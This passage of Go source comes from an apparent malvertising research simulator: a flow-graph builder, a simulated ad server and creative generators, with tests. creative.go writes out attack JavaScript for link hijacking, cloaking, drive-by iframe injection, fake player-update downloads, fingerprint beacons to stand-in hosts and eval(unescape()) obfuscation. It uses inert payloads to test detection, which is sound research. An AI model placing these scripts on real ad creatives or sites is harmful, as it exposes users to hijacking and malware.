	Frames []Frame
	// Writes is the DOM-write provenance recorded during rendering.
	Writes []Write
}

// Graph is the assembled per-page flow graph plus the request metadata the
// classifier consumes. Construct with Build; a Graph is immutable after.
type Graph struct {
	nodes  map[string]NodeKind
	edges  map[Edge]struct{}
	domain map[string]string // node id → registered domain ("" unknown)
	feats  Features
}

// node ids are kind-prefixed so the namespaces cannot collide.
func frameNodeID(id string) string    { return "frame:" + id }
func scriptNodeID(id string) string   { return "script:" + id }
func requestNodeID(url string) string { return "req:" + url }
func domainNodeID(d string) string    { return "dom:" + d }

// rootFrameID mirrors the browser's frame-tree root.
const rootFrameID = "0"

// Build assembles the graph. It is a pure function of its input: same
// input (up to transaction order) ⇒ identical graph, identical canonical
// serialization, identical features.
func Build(in Input) *Graph {
	g := &Graph{
		nodes:  make(map[string]NodeKind, 16),
		edges:  make(map[Edge]struct{}, 16),
		domain: make(map[string]string, 16),
	}

	// Canonicalize transaction order by capture sequence so shuffled
	// inserts build the same graph.
	txs := make([]netcap.Transaction, len(in.Transactions))
	copy(txs, in.Transactions)
	sort.Slice(txs, func(i, j int) bool { return txs[i].Seq < txs[j].Seq })

	pageDomain := urlx.RegisteredDomain(urlx.Host(in.PageURL))

	// Frame nodes and the frame tree (embeds edges parent → child).
	frameDomain := map[string]string{rootFrameID: pageDomain}
	g.addNode(frameNodeID(rootFrameID), FrameNode, pageDomain)
	for _, f := range in.Frames {
		d := urlx.RegisteredDomain(urlx.Host(f.URL))
		if f.ID == "" {
			continue
		}
		frameDomain[f.ID] = d
		g.addNode(frameNodeID(f.ID), FrameNode, d)
		if dot := strings.LastIndexByte(f.ID, '.'); dot > 0 {
			parent := f.ID[:dot]
			g.addNode(frameNodeID(parent), FrameNode, frameDomain[parent])
			g.addEdge(Edge{Kind: EdgeEmbeds, From: frameNodeID(parent), To: frameNodeID(f.ID)})
		}
	}
	// Frames mentioned only by transactions still become nodes.
	for i := range txs {
		if id := txs[i].FrameID; id != "" {
			if _, ok := frameDomain[id]; !ok {
				frameDomain[id] = pageDomain
				g.addNode(frameNodeID(id), FrameNode, pageDomain)
			}
		}
	}

	c := &counters{beaconDomains: map[string]struct{}{}}
	for i := range txs {
		g.addTransaction(&txs[i], frameDomain, pageDomain, c)
	}

	for _, w := range in.Writes {
		if w.Writer == "" {
			continue
		}
		frame := w.FrameID
		if frame == "" {
			frame = rootFrameID
		}
		sid := scriptNodeID(w.Writer)
		g.addNode(sid, ScriptNode, g.scriptDomain(w.Writer, frameDomain[frame]))
		fid := frameNodeID(frame)
		g.addNode(fid, FrameNode, frameDomain[frame])
		g.addEdge(Edge{Kind: EdgeWritesDOM, From: sid, To: fid})
		c.domWrites++
		for _, tag := range w.Tags {
			if tag == "iframe" {
				c.writtenIframes++
			}
		}
	}

	g.computeFeatures(c)
	return g
}

// counters accumulates the classification-relevant observations made while
// walking the transaction list.
type counters struct {
	domWrites      int
	writtenIframes int
	topNavs        int
	offsiteNavs    int
	nxTargets      int
	exeDownloads   int
	flashEmbeds    int
	crossFrameReqs int
	beaconDomains  map[string]struct{}
}

// addTransaction folds one captured transaction into the graph.
func (g *Graph) addTransaction(tx *netcap.Transaction, frameDomain map[string]string, pageDomain string, c *counters) {
	url := stripFragment(tx.URL)
	if url == "" {
		return
	}
	frame := tx.FrameID
	if frame == "" {
		frame = rootFrameID
	}
	frameDom := frameDomain[frame]
	if frameDom == "" {
		frameDom = pageDomain
	}
	reqDom := urlx.RegisteredDomain(tx.Host)
	if reqDom == "" {
		reqDom = urlx.RegisteredDomain(urlx.Host(url))
	}

	rid := requestNodeID(url)
	g.addNode(rid, RequestNode, reqDom)
	if reqDom != "" {
		did := domainNodeID(reqDom)
		g.addNode(did, DomainNode, reqDom)
		fid := frameNodeID(frame)
		g.addNode(fid, FrameNode, frameDomain[frame])
		g.addEdge(Edge{Kind: EdgeEmbeds, From: fid, To: did})
	}

	// The initiator edge: scripts initiate their fetches; everything else
	// is initiated by the frame whose load produced it. Redirect hops hang
	// off the redirecting request instead.
	switch {
	case tx.Via == "redirect" && tx.Initiator != "":
		from := requestNodeID(stripFragment(tx.Initiator))
		g.addNode(from, RequestNode, urlx.RegisteredDomain(urlx.Host(tx.Initiator)))
		g.addEdge(Edge{Kind: EdgeRedirectsTo, From: from, To: rid})
	case isScriptVia(tx.Via) && tx.Initiator != "":
		sid := scriptNodeID(tx.Initiator)
		g.addNode(sid, ScriptNode, g.scriptDomain(tx.Initiator, frameDom))
		g.addEdge(Edge{Kind: EdgeInitiates, From: sid, To: rid})
	default:
		fid := frameNodeID(frame)
		g.addNode(fid, FrameNode, frameDomain[frame])
		g.addEdge(Edge{Kind: EdgeInitiates, From: fid, To: rid})
	}

	// A redirect's resolved target joins the graph even when the browser
	// never fetched it (the unfetched-tail case from netcap's chain API).
	if tx.IsRedirect() {
		if next := stripFragment(urlx.Resolve(tx.URL, tx.Location)); next != "" && next != url {
			nid := requestNodeID(next)
			g.addNode(nid, RequestNode, urlx.RegisteredDomain(urlx.Host(next)))
			g.addEdge(Edge{Kind: EdgeRedirectsTo, From: rid, To: nid})
		}
	}

	// Classification counters.
	cross := reqDom != "" && frameDom != "" && reqDom != frameDom
	switch tx.Via {
	case "nav-top":
		c.topNavs++
	case "nav-location":
		if cross {
			c.offsiteNavs++
		}
	case "img":
		if cross {
			c.beaconDomains[reqDom] = struct{}{}
		}
	case "iframe":
		// A subframe document is stamped with the child frame's ID, whose
		// domain is the request's own — compare against the embedding
		// parent frame instead.
		parentDom := pageDomain
		if dot := strings.LastIndexByte(frame, '.'); dot > 0 {
			if d := frameDomain[frame[:dot]]; d != "" {
				parentDom = d
			}
		}
		if reqDom != "" && parentDom != "" && reqDom != parentDom {
			c.crossFrameReqs++
		}
	}
	if tx.Err != "" && (isScriptVia(tx.Via) || tx.Via == "nav-top" || tx.Via == "nav-location") {
		c.nxTargets++
	}
	switch tx.ContentType {
	case "application/octet-stream", "application/x-msdownload", "application/x-msdos-program":
		c.exeDownloads++
	case "application/x-shockwave-flash":
		c.flashEmbeds++
	}
}

// isScriptVia reports whether the via label marks a script-initiated fetch.
func isScriptVia(via string) bool {
	return via == "script" || via == "nav-top" || via == "nav-location"
}

// scriptDomain resolves a script identity to its registered domain:
// external scripts carry their host, inline scripts belong to their frame.
func (g *Graph) scriptDomain(writer, frameDom string) string {
	if strings.HasPrefix(writer, "inline:") {
		return frameDom
	}
	if d := urlx.RegisteredDomain(urlx.Host(writer)); d != "" {
		return d
	}
	return frameDom
}

func (g *Graph) addNode(id string, kind NodeKind, domain string) {
	if _, ok := g.nodes[id]; !ok {
		g.nodes[id] = kind
	}
	if domain != "" && g.domain[id] == "" {
		g.domain[id] = domain
	}
}

func (g *Graph) addEdge(e Edge) {
	if e.From == e.To {
		return
	}
	g.edges[e] = struct{}{}
}

// Nodes returns the node ids in sorted order.
func (g *Graph) Nodes() []string {
	out := make([]string, 0, len(g.nodes))
	for id := range g.nodes {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

// Edges returns the edges sorted by (kind, from, to).
func (g *Graph) Edges() []Edge {
	out := make([]Edge, 0, len(g.edges))
	for e := range g.edges {
		out = append(out, e)
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Kind != b.Kind {
			return a.Kind < b.Kind
		}
		if a.From != b.From {
			return a.From < b.From
		}
		return a.To < b.To
	})
	return out
}

// Canonical renders the graph as its canonical serialization: sorted node
// lines then sorted edge lines. Two graphs are equal iff their canonical
// forms are byte-identical — the determinism and order-insensitivity gates
// compare exactly this string.
func (g *Graph) Canonical() string {
	var b strings.Builder
	b.Grow(64 * (len(g.nodes) + len(g.edges)))
	for _, id := range g.Nodes() {
		b.WriteString("node ")
		b.WriteString(g.nodes[id].String())
		b.WriteByte(' ')
		b.WriteString(id)
		if d := g.domain[id]; d != "" {
			b.WriteString(" @")
			b.WriteString(d)
		}
		b.WriteByte('\n')
	}
	for _, e := range g.Edges() {
		b.WriteString("edge ")
		b.WriteString(e.Kind.String())
		b.WriteByte(' ')
		b.WriteString(e.From)
		b.WriteString(" -> ")
		b.WriteString(e.To)
		b.WriteByte('\n')
	}
	return b.String()
}

// Features returns the structural features derived at build time.
func (g *Graph) Features() Features { return g.feats }

// stripFragment removes a URL fragment, mirroring what browsers request.
func stripFragment(u string) string {
	if i := strings.IndexByte(u, '#'); i >= 0 {
		return u[:i]
	}
	return u
}
