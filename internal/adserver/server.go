package adserver

import (
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"

	"madave/internal/adnet"
	"madave/internal/memnet"
	"madave/internal/stats"
	"madave/internal/webgen"
)

// queryGet returns the first value for key in a raw query string without
// materialising the url.Values map that r.URL.Query() builds per call. The
// serving hot path parses a handful of short keys per request, so a linear
// scan wins; escaped values fall back to url.QueryUnescape.
func queryGet(rawQuery, key string) string {
	for len(rawQuery) > 0 {
		pair := rawQuery
		if i := strings.IndexByte(pair, '&'); i >= 0 {
			pair, rawQuery = pair[:i], pair[i+1:]
		} else {
			rawQuery = ""
		}
		eq := strings.IndexByte(pair, '=')
		if eq < 0 {
			if pair == key {
				return ""
			}
			continue
		}
		if pair[:eq] != key {
			continue
		}
		v := pair[eq+1:]
		if strings.IndexByte(v, '%') < 0 && strings.IndexByte(v, '+') < 0 {
			return v
		}
		if dec, err := url.QueryUnescape(v); err == nil {
			return dec
		}
		return v
	}
	return ""
}

// Server wires a generated web and ad ecosystem into a memnet universe.
type Server struct {
	Eco *adnet.Ecosystem
	Web *webgen.Web
	// Seed decorrelates serving randomness from generation randomness.
	Seed uint64
}

// New returns a Server for the given ecosystem and web.
func New(eco *adnet.Ecosystem, web *webgen.Web, seed uint64) *Server {
	return &Server{Eco: eco, Web: web, Seed: seed}
}

// WidgetHost serves the benign (non-advertising) embedded widgets that
// publisher pages include; the EasyList step must NOT classify its iframes
// as ads.
const WidgetHost = "cdn.widgetworks.com"

// SearchHosts are the benign search engines cloaking campaigns redirect
// analysis environments to (Wepawet's "redirects to benign websites like
// Google and Bing" heuristic).
var SearchHosts = []string{"www.google.com", "www.bing.com"}

// Install registers every simulated host with the universe: publishers, ad
// networks, creative/landing/payload hosts, the widget CDN, and the benign
// search engines.
func (s *Server) Install(u *memnet.Universe) {
	for _, site := range s.Web.Sites {
		u.Handle(site.Host, s.publisherHandler(site))
	}
	for _, n := range s.Eco.Networks {
		u.Handle(n.Domain, s.networkHandler(n))
	}
	for _, c := range s.Eco.Campaigns {
		u.Handle(c.CreativeHost, s.creativeHostHandler(c))
		u.Handle(c.LandingHost, s.landingHandler(c))
		if c.PayloadHost != "" {
			u.Handle(c.PayloadHost, s.payloadHandler(c))
		}
	}
	u.Handle(WidgetHost, http.HandlerFunc(widgetHandler))
	for _, h := range SearchHosts {
		u.Handle(h, http.HandlerFunc(searchHandler))
	}
}

// publisherHandler renders a publisher's page: body content plus one iframe
// per ad slot pointing at the publisher's primary ad network, plus a benign
// widget iframe. Crucially, no iframe carries the HTML5 sandbox attribute —
// the paper found that none of the crawled websites used it (§4.4).
func (s *Server) publisherHandler(site *webgen.Site) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		nonce := queryGet(r.URL.RawQuery, "v")
		primary := s.Eco.Networks[site.PrimaryNetwork%len(s.Eco.Networks)]

		var b strings.Builder
		b.Grow(2048)
		fmt.Fprintf(&b, "<html><head><title>%s - %s</title></head><body>", site.Domain, site.Category)
		fmt.Fprintf(&b, "<h1>%s</h1>", site.Domain)
		fmt.Fprintf(&b, "<p>Welcome to %s, your %s destination.</p>", site.Domain, site.Category)
		// A non-advertising iframe: EasyList must tell these apart from ads.
		fmt.Fprintf(&b, `<iframe src="http://%s/embed?site=%s" width="400" height="120"></iframe>`,
			WidgetHost, site.Domain)
		for slot := 0; slot < site.AdSlots; slot++ {
			imp := ImpressionID(s.Seed, site.Host, slot, nonce)
			fmt.Fprintf(&b,
				`<iframe src="http://%s/serve?pub=%s&slot=%d&imp=%s&hop=0" width="300" height="250"></iframe>`,
				primary.Domain, site.Host, slot, imp)
		}
		fmt.Fprintf(&b, "<p>Contact us at info@%s.</p>", site.Domain)
		b.WriteString("</body></html>")

		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, b.String())
	})
}

// ImpressionID derives the deterministic impression identifier for a page
// load. Different refresh nonces yield different impressions — that is why
// the paper's crawler refreshed each page five times.
func ImpressionID(seed uint64, pubHost string, slot int, nonce string) string {
	rng := stats.NewRNGFromString(fmt.Sprintf("imp:%d:%s:%d:%s", seed, pubHost, slot, nonce))
	return rng.RandHex(16)
}

// networkHandler implements an ad network's /serve endpoint. Every hop of
// the arbitration chain is an HTTP 302 from one exchange to the next, so
// the crawler's traffic capture sees the full chain (Figure 5's data).
func (s *Server) networkHandler(n *adnet.Network) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/serve" {
			http.NotFound(w, r)
			return
		}
		raw := r.URL.RawQuery
		pub := queryGet(raw, "pub")
		imp := queryGet(raw, "imp")
		hop, err := strconv.Atoi(queryGet(raw, "hop"))
		if err != nil || hop < 0 || hop >= adnet.MaxChain || pub == "" || imp == "" {
			http.Error(w, "bad ad request", http.StatusBadRequest)
			return
		}
		slot, _ := strconv.Atoi(queryGet(raw, "slot"))

		d, ok := s.decide(pub, imp)
		if !ok {
			http.Error(w, "unknown publisher", http.StatusBadRequest)
			return
		}
		if hop < len(d.Chain)-1 {
			next := s.Eco.Networks[d.Chain[hop+1]]
			target := fmt.Sprintf("http://%s/serve?pub=%s&slot=%d&imp=%s&hop=%d",
				next.Domain, pub, slot, imp, hop+1)
			http.Redirect(w, r, target, http.StatusFound)
			return
		}

		// Terminal hop: serve the creative document.
		variant := int(stats.NewRNGFromString("variant:"+imp).Uint64() % 4)
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, CreativeHTML(d.Campaign, imp, variant))
	})
}

// decide recomputes the (deterministic) arbitration decision for an
// impression. Every hop handler re-derives the same decision from the
// impression ID, so the network endpoints stay stateless like real
// exchanges whose redirect URLs carry the auction state.
func (s *Server) decide(pubHost, imp string) (adnet.Decision, bool) {
	site := s.Web.ByHost(pubHost)
	if site == nil {
		return adnet.Decision{}, false
	}
	rng := stats.NewRNGFromString(fmt.Sprintf("decide:%d:%s", s.Seed, imp))
	return s.Eco.Serve(rng, site.PrimaryNetwork%len(s.Eco.Networks)), true
}

// Decide exposes the decision derivation for analysis tooling: given a
// publisher host and impression ID it returns the ground-truth decision.
func (s *Server) Decide(pubHost, imp string) (adnet.Decision, bool) {
	return s.decide(pubHost, imp)
}

// creativeHostHandler serves a campaign's static assets (banner images and
// helper scripts).
func (s *Server) creativeHostHandler(c *adnet.Campaign) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasPrefix(r.URL.Path, "/banners/"):
			w.Header().Set("Content-Type", "image/png")
			// A tiny deterministic PNG-ish blob; content doesn't matter,
			// traffic does.
			fmt.Fprintf(w, "\x89PNG\r\n%s:%s", c.ID, r.URL.Path)
		case r.URL.Path == "/ad.js":
			w.Header().Set("Content-Type", "application/javascript")
			fmt.Fprintf(w, "// ad helper for %s\n", c.ID)
		default:
			http.NotFound(w, r)
		}
	})
}

// landingHandler serves a campaign's landing page (where clicks and
// hijacks lead).
func (s *Server) landingHandler(c *adnet.Campaign) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<html><head><title>%s</title></head><body><h1>%s</h1><p>Offer %s.</p></body></html>",
			c.LandingHost, c.LandingHost, c.ID)
	})
}

// payloadHandler serves a campaign's binary payloads: the exploit page,
// the executable, or the Flash movie.
func (s *Server) payloadHandler(c *adnet.Campaign) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/exploit":
			// The exploit landing: script that fires the actual download,
			// the final step of a drive-by (§2.1).
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w,
				`<html><body><script>window.location = "http://%s/payload.exe?imp=%s";</script></body></html>`,
				c.PayloadHost, queryGet(r.URL.RawQuery, "imp"))
		case strings.HasSuffix(r.URL.Path, ".exe"):
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Write(payloadEXE(c))
		case strings.HasSuffix(r.URL.Path, ".swf"):
			w.Header().Set("Content-Type", "application/x-shockwave-flash")
			w.Write(payloadSWF(c))
		default:
			http.NotFound(w, r)
		}
	})
}

// widgetHandler serves the benign embedded widget all publishers use.
func widgetHandler(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	fmt.Fprintf(w,
		"<html><body><div class=\"widget\">Trending on %s</div></body></html>",
		queryGet(r.URL.RawQuery, "site"))
}

// searchHandler serves the benign search-engine stand-ins.
func searchHandler(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	fmt.Fprint(w, "<html><head><title>Search</title></head><body><h1>Search</h1></body></html>")
}

// BuildEasyList produces the synthetic EasyList covering the simulated ad
// infrastructure: one domain-anchored rule per ad network plus generic
// creative patterns — and an exception keeping the widget CDN unblocked.
// The crawler uses it to tell ad iframes from other iframes exactly as the
// paper used the real EasyList.
func (s *Server) BuildEasyList() string {
	var b strings.Builder
	b.WriteString("[Adblock Plus 2.0]\n! Synthetic EasyList for the simulated ad ecosystem\n")
	for _, n := range s.Eco.Networks {
		fmt.Fprintf(&b, "||%s^\n", n.Domain)
	}
	// Creative hosts follow recognizable ad-serving URL shapes.
	b.WriteString("/banners/*\n")
	b.WriteString("/ad.js\n")
	fmt.Fprintf(&b, "@@||%s^\n", WidgetHost)
	return b.String()
}
