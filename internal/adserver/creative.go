// Package adserver turns the abstract ecosystem (webgen sites, adnet
// networks and campaigns) into a living HTTP universe: publisher pages with
// ad iframes, ad-network serve endpoints that 302 through arbitration
// chains, creative hosts serving the ad markup and images, and payload
// hosts serving executables and Flash.
//
// Everything the paper's crawler saw over the wire — pages, iframes,
// redirects, scripts, downloads — is produced here and consumed by the
// emulated browser.
package adserver

import (
	"fmt"
	"strings"

	"madave/internal/adnet"
	"madave/internal/stats"
)

// CreativeHTML renders the iframe document for one served impression of a
// campaign. Every impression embeds its impression ID (real ad markup
// carries cache busters and session tokens the same way), which is why the
// paper could collect hundreds of thousands of *unique* advertisements.
// It is exported for tooling and tests that need a specific campaign's
// creative without brute-forcing the auction.
func CreativeHTML(c *adnet.Campaign, imp string, variant int) string {
	var b strings.Builder
	b.Grow(1024)
	b.WriteString("<html><head><title>ad</title></head><body>")
	switch c.Kind {
	case adnet.KindBenign, adnet.KindBlacklisted:
		b.WriteString(scriptTag(benignScript(c, imp, variant)))
	case adnet.KindLinkHijack:
		b.WriteString(scriptTag(maybeObfuscate(hijackScript(c, imp), imp)))
	case adnet.KindCloaking:
		b.WriteString(scriptTag(maybeObfuscate(cloakingScript(c, imp), imp)))
	case adnet.KindDriveBy:
		b.WriteString(scriptTag(maybeObfuscate(driveByScript(c, imp), imp)))
	case adnet.KindDeceptive:
		b.WriteString(deceptiveHTML(c, imp))
	case adnet.KindMaliciousFlash:
		b.WriteString(flashHTML(c, imp))
	case adnet.KindModelOnly:
		b.WriteString(scriptTag(obfuscate(obfuscate(modelOnlyScript(c, imp)))))
	}
	b.WriteString("</body></html>")
	return b.String()
}

func scriptTag(src string) string {
	return "<script>" + src + "</script>"
}

// benignScript renders a banner linking to the landing page. Variant 3
// uses the asynchronous DOM-API loader pattern modern ad tags prefer;
// the others use classic document.write markup.
func benignScript(c *adnet.Campaign, imp string, variant int) string {
	w := bannerSizes[variant%len(bannerSizes)]
	if variant%4 == 3 {
		return fmt.Sprintf(
			`var a = document.createElement("a");
a.href = "http://%s/offer?c=%s&imp=%s";
a.innerHTML = '<img src="http://%s/banners/b%d_%s.png?imp=%s" width="%d" height="%d">';
document.body.appendChild(a);`,
			c.LandingHost, c.ID, imp,
			c.CreativeHost, variant, c.ID, imp, w.w, w.h)
	}
	return fmt.Sprintf(
		`var land = "http://%s/offer?c=%s&imp=%s";
document.write('<a href="' + land + '"><img src="http://%s/banners/b%d_%s.png?imp=%s" width="%d" height="%d"></a>');`,
		c.LandingHost, c.ID, imp,
		c.CreativeHost, variant, c.ID, imp, w.w, w.h)
}

var bannerSizes = []struct{ w, h int }{
	{728, 90}, {300, 250}, {160, 600}, {468, 60}, {320, 50},
}

// hijackScript is the §2.3 attack: the iframed ad rewrites the top-level
// page's location through the BOM, which the Same-Origin Policy does not
// prevent.
func hijackScript(c *adnet.Campaign, imp string) string {
	return fmt.Sprintf(
		`document.write('<img src="http://%s/banners/b0_%s.png?imp=%s" width="300" height="250">');
top.location = "http://%s/win?imp=%s";`,
		c.CreativeHost, c.ID, imp, c.LandingHost, imp)
}

// cloakingScript probes the environment. Analysis systems (honeyclients)
// present sparse plugin lists and headless screens; the script sends them
// to a benign search engine or a nonexistent domain, so the ad looks clean,
// while real users get the scam landing page. Wepawet's heuristics flagged
// exactly this pattern (redirects to NX domains or to Google/Bing).
func cloakingScript(c *adnet.Campaign, imp string) string {
	// Half the cloakers bail to a benign site, half to a throwaway NX
	// domain, keyed deterministically off the campaign ID.
	bail := `"http://www.google.com/"`
	if sumBytes(c.ID)%2 == 0 {
		bail = fmt.Sprintf(`"http://nx%s.com/"`, strings.TrimPrefix(c.ID, "cmp-"))
	}
	return fmt.Sprintf(
		`if (navigator.plugins.length < 3 || screen.width < 800) {
	window.location = %s;
} else {
	var land = "http://%s/offer?c=%s&imp=%s";
	document.write('<a href="' + land + '"><img src="http://%s/banners/b1_%s.png?imp=%s" width="300" height="250"></a>');
}`,
		bail, c.LandingHost, c.ID, imp, c.CreativeHost, c.ID, imp)
}

// driveByScript is the §2.1 attack: enumerate plugins, and when a
// vulnerable version is present, plant an invisible iframe pointing at the
// exploit server. No user interaction is required.
func driveByScript(c *adnet.Campaign, imp string) string {
	return fmt.Sprintf(
		`document.write('<img src="http://%s/banners/b2_%s.png?imp=%s" width="728" height="90">');
var found = false;
var ps = navigator.plugins;
for (var i = 0; i < ps.length; i++) {
	if (ps[i].name == "Shockwave Flash" && ps[i].version < 11) { found = true; }
	if (ps[i].name == "Java" && ps[i].version < 8) { found = true; }
}
if (found) {
	document.write('<iframe src="http://%s/exploit?imp=%s" width="1" height="1"></iframe>');
}`,
		c.CreativeHost, c.ID, imp, c.PayloadHost, imp)
}

// deceptiveHTML is the §2.2 attack: a fake player-update prompt whose
// "update" is malware; a timer also pushes the download for users who
// hesitate.
func deceptiveHTML(c *adnet.Campaign, imp string) string {
	return fmt.Sprintf(
		`<div class="alert"><b>Your video player is out of date!</b> Update now to continue watching.</div>
<a href="http://%s/player_update.exe?imp=%s">Update Player</a>
<script>
setTimeout(function() { window.location = "http://%s/player_update.exe?imp=%s"; }, 1500);
</script>`,
		c.PayloadHost, imp, c.PayloadHost, imp)
}

// flashHTML embeds a malicious Flash movie.
func flashHTML(c *adnet.Campaign, imp string) string {
	return fmt.Sprintf(
		`<embed src="http://%s/promo_%s.swf?imp=%s" type="application/x-shockwave-flash" width="300" height="250">`,
		c.PayloadHost, c.ID, imp)
}

// modelOnlyScript behaves like malware infrastructure (plugin enumeration
// plus beacons to several unrelated domains) without a payload, so only
// behavioural models flag it.
func modelOnlyScript(c *adnet.Campaign, imp string) string {
	return fmt.Sprintf(
		`var fp = "";
var ps = navigator.plugins;
for (var i = 0; i < ps.length; i++) { fp += ps[i].name + ":" + ps[i].version + ";"; }
fp += screen.width + "x" + screen.height;
document.write('<img src="http://stat1-%[1]s.com/px.gif?d=' + escape(fp) + '" width="1" height="1">');
document.write('<img src="http://stat2-%[1]s.com/px.gif?imp=%[2]s" width="1" height="1">');
document.write('<img src="http://stat3-%[1]s.com/px.gif?r=' + Math.floor(Math.random() * 100000) + '" width="1" height="1">');
document.write('<img src="http://%[3]s/banners/b3_%[4]s.png?imp=%[2]s" width="300" height="250">');`,
		strings.TrimPrefix(c.ID, "cmp-"), imp, c.CreativeHost, c.ID)
}

// obfuscate wraps src in an eval(unescape(...)) layer, the classic
// malvertising obfuscation. The honeyclient sees through it because the
// decoded program runs inside the same instrumented interpreter.
func obfuscate(src string) string {
	var b strings.Builder
	b.Grow(len(`eval(unescape(""))`) + 3*len(src))
	b.WriteString(`eval(unescape("`)
	for i := 0; i < len(src); i++ {
		fmt.Fprintf(&b, "%%%02x", src[i])
	}
	b.WriteString(`"));`)
	return b.String()
}

// maybeObfuscate obfuscates deterministically for roughly half of all
// impressions, keyed off the impression ID, so the corpus contains both
// plain and obfuscated instances of the same campaigns.
func maybeObfuscate(src, imp string) string {
	if sumBytes(imp)%2 == 0 {
		return obfuscate(src)
	}
	return src
}

func sumBytes(s string) int {
	n := 0
	for i := 0; i < len(s); i++ {
		n += int(s[i])
	}
	return n
}

// payloadEXE fabricates the executable a payload host serves. The bytes
// look like a PE file and carry the campaign marker the AV-engine
// signatures (and nothing else in the simulation) recognize.
func payloadEXE(c *adnet.Campaign) []byte {
	var b strings.Builder
	b.WriteString("MZ\x90\x00\x03")
	fmt.Fprintf(&b, "EVIL:%s:%s;", c.ID, c.Kind)
	// Deterministic filler so files have realistic, stable sizes.
	rng := stats.NewRNGFromString("exe:" + c.ID)
	for b.Len() < 4096 {
		b.WriteString(rng.RandHex(32))
	}
	return []byte(b.String())
}

// payloadSWF fabricates a malicious Flash movie body.
func payloadSWF(c *adnet.Campaign) []byte {
	var b strings.Builder
	b.WriteString("FWS\x0a")
	fmt.Fprintf(&b, "EVILSWF:%s;", c.ID)
	rng := stats.NewRNGFromString("swf:" + c.ID)
	for b.Len() < 2048 {
		b.WriteString(rng.RandHex(32))
	}
	return []byte(b.String())
}

// benignEXE fabricates a clean installer (the legitimate plugin-update case
// the paper mentions: sometimes a real Flash installer is the right
// answer). AV engines find nothing in it.
func benignEXE(name string) []byte {
	var b strings.Builder
	b.WriteString("MZ\x90\x00\x03")
	fmt.Fprintf(&b, "CLEANINSTALLER:%s;", name)
	rng := stats.NewRNGFromString("clean:" + name)
	for b.Len() < 4096 {
		b.WriteString(rng.RandHex(32))
	}
	return []byte(b.String())
}
