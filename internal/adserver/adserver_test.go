package adserver

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"madave/internal/adnet"
	"madave/internal/easylist"
	"madave/internal/htmlparse"
	"madave/internal/memnet"
	"madave/internal/webgen"
)

var (
	fixtureOnce sync.Once
	fixSrv      *Server
	fixU        *memnet.Universe
)

// fixture builds the full universe once; building 30k publisher handlers is
// cheap but not free, and every test here reads the same world.
func fixture(t *testing.T) (*Server, *memnet.Universe) {
	t.Helper()
	fixtureOnce.Do(func() {
		web, err := webgen.Generate(webgen.DefaultConfig())
		if err != nil {
			panic(err)
		}
		eco, err := adnet.Generate(adnet.DefaultConfig())
		if err != nil {
			panic(err)
		}
		fixSrv = New(eco, web, 99)
		fixU = memnet.NewUniverse()
		fixSrv.Install(fixU)
	})
	return fixSrv, fixU
}

func fetch(t *testing.T, u *memnet.Universe, url string) (*http.Response, string) {
	t.Helper()
	resp, err := memnet.Client(u).Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

func TestPublisherPage(t *testing.T) {
	srv, u := fixture(t)
	site := srv.Web.Sites[0] // rank 1: has 5-7 ad slots
	_, body := fetch(t, u, "http://"+site.Host+"/?v=day1-r0")

	doc := htmlparse.Parse(body)
	frames := doc.Find("iframe")
	if len(frames) != site.AdSlots+1 {
		t.Fatalf("iframes = %d, want %d ad slots + 1 widget", len(frames), site.AdSlots)
	}
	// §4.4: publishers never use the sandbox attribute.
	for _, f := range frames {
		if f.HasAttr("sandbox") {
			t.Fatal("publisher iframe must not carry sandbox attribute")
		}
	}
	// Ad iframes point at the primary network.
	primary := srv.Eco.Networks[site.PrimaryNetwork]
	adFrames := 0
	for _, f := range frames {
		src, _ := f.Attr("src")
		if strings.Contains(src, primary.Domain) {
			adFrames++
		}
	}
	if adFrames != site.AdSlots {
		t.Fatalf("ad iframes = %d, want %d", adFrames, site.AdSlots)
	}
}

func TestRefreshChangesImpressions(t *testing.T) {
	srv, u := fixture(t)
	site := srv.Web.Sites[0]
	_, b1 := fetch(t, u, "http://"+site.Host+"/?v=r1")
	_, b2 := fetch(t, u, "http://"+site.Host+"/?v=r2")
	_, b1again := fetch(t, u, "http://"+site.Host+"/?v=r1")
	if b1 == b2 {
		t.Fatal("different refresh nonces should embed different impressions")
	}
	if b1 != b1again {
		t.Fatal("same nonce must be deterministic")
	}
}

func TestArbitrationChainOverHTTP(t *testing.T) {
	srv, u := fixture(t)
	client := memnet.Client(u)

	// Find an impression whose decision has a multi-hop chain.
	var imp string
	var site *webgen.Site
	for _, s := range srv.Web.Sites[:200] {
		if s.AdSlots == 0 {
			continue
		}
		for r := 0; r < 50; r++ {
			cand := ImpressionID(srv.Seed, s.Host, 0, fmt.Sprintf("r%d", r))
			if d, ok := srv.Decide(s.Host, cand); ok && d.Auctions() >= 3 {
				imp, site = cand, s
				break
			}
		}
		if imp != "" {
			break
		}
	}
	if imp == "" {
		t.Fatal("no multi-hop impression found in sample")
	}

	d, _ := srv.Decide(site.Host, imp)
	url := fmt.Sprintf("http://%s/serve?pub=%s&slot=0&imp=%s&hop=0",
		srv.Eco.Networks[d.Chain[0]].Domain, site.Host, imp)
	var visited []string
	for hop := 0; ; hop++ {
		if hop > adnet.MaxChain {
			t.Fatal("redirect chain exceeded cap")
		}
		resp, err := client.Get(url)
		if err != nil {
			t.Fatal(err)
		}
